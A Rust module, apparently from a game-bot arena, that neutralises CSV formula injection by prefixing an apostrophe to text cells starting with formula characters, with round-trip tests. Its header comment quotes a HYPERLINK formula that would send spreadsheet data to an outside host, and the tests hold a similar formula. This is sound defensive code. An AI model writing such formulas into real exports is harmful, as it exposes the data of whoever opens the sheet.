//! Text cells a spreadsheet would run. Excel, LibreOffice Calc and Google Sheets
//! read a CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as
//! a formula (OWASP, "CSV Injection"), and a bot writes free text into the results
//! (its `info` line lands in moves.csv): `=HYPERLINK("https://…?"&A1, "click")`
//! would run on the organiser's machine and could send the sheet away.
//!
//! Every text column of games.csv and moves.csv (and the names in standings.csv,
//! crosstable.csv and reasons.csv) is written through [`serialize`]:
//! such a cell gets a leading apostrophe, which spreadsheets take as "this is
//! text". A cell that starts with an apostrophe gets one too, so [`deserialize`]
//! can remove exactly what was added and the arena reads back what it wrote.
//! Numeric columns (a `score` of `-35`) are numbers in the records and never pass
//! here: they stay numbers.

use serde::{Deserialize as _, Deserializer, Serializer};

/// The first characters that make a spreadsheet evaluate a cell.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The text as it is written to a CSV cell: with a leading `'` if it starts with a
/// formula character or with `'`.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) || text.starts_with('\'') {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The text a CSV cell holds, as it was before [`neutralise`].
pub fn restore(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// `serialize_with` for a text column.
///
/// # Errors
/// The serializer's.
pub fn serialize<S: Serializer>(text: &str, serializer: S) -> Result<S::Ok, S::Error> {
    serializer.serialize_str(&neutralise(text))
}

/// `deserialize_with` for a text column.
///
/// # Errors
/// The deserializer's.
pub fn deserialize<'de, D: Deserializer<'de>>(deserializer: D) -> Result<String, D::Error> {
    let cell = String::deserialize(deserializer)?;
    Ok(restore(&cell).to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_an_apostrophe_and_come_back_unchanged() {
        for text in [
            "=HYPERLINK(\"https://example.invalid\",\"x\")",
            "+1",
            "-35",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'quoted",
            "''",
        ] {
            let cell = neutralise(text);
            assert!(cell.starts_with('\''), "{text:?} -> {cell:?}");
            assert_eq!(restore(&cell), text);
        }
        for text in ["", "pv e5 e4; hello", "X (mcts) crashed", "G0001", "a=b"] {
            assert_eq!(neutralise(text), text);
            assert_eq!(restore(text), text);
        }
    }
}
